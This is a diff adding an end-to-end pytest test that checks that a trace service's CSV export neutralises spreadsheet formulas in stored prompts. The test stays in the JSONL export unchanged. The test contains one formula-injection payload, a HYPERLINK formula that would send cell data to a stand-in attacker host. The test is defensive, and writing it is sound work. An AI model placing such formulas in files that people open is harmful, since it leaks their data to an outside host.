@@ -8,6 +8,7 @@ import io
 from collections.abc import Callable
 from typing import Any
 
+import httpx
 import orjson
 import pytest
 
@@ -22,7 +23,8 @@ from tests.api_helpers import (
     list_page,
     seed,
 )
-from tests.conftest import Service
+from tests.conftest import Service, wait_for
+from tests.otlp_helpers import json_span, traces_json
 
 pytestmark = pytest.mark.e2e
 
@@ -411,3 +413,34 @@ def test_a_lone_surrogate_is_422_not_500(service: Service, data: tuple[list[Sent
     )
     assert r.status_code == 422, r.text
     assert "unicode" in r.json()["detail"][0]["msg"]
+
+
+def test_the_csv_export_holds_no_cell_a_spreadsheet_would_run(
+    service: Service, data: tuple[list[Sent], str]
+) -> None:
+    """A prompt starting with "=" (or + - @) is a formula to Excel and Sheets:
+    `=HYPERLINK("http://…")` sends data away. The CSV cell starts with an apostrophe instead; the
+    JSONL export keeps the text as it was."""
+    _, from_date = data
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
+    span = json_span(
+        {
+            "gen_ai.operation.name": "chat",
+            "gen_ai.provider.name": "openai",
+            "gen_ai.request.model": "gpt-4o-mini",
+            "gen_ai.input.messages": orjson.dumps(
+                [{"role": "user", "parts": [{"type": "text", "content": formula}]}]
+            ).decode(),
+        }
+    )
+    headers = {"x-api-key": service.key, "content-type": "application/json"}
+    assert (
+        httpx.post(f"{service.http_url}/v1/traces", content=traces_json([span]), headers=headers).status_code
+        == 200
+    )
+    body = {"from_date": from_date, "search": "attacker.example"}
+    assert wait_for(lambda: _export(service, "jsonl", body).text.strip())
+    [line] = _export(service, "jsonl", body).text.splitlines()
+    assert orjson.loads(line)["prompt_preview"] == formula[:100]
+    rows = list(csv.reader(io.StringIO(_export(service, "csv", body).text)))
+    assert rows[1][SEED_CSV_COLUMNS.index("prompt_preview")] == "'" + formula[:100]
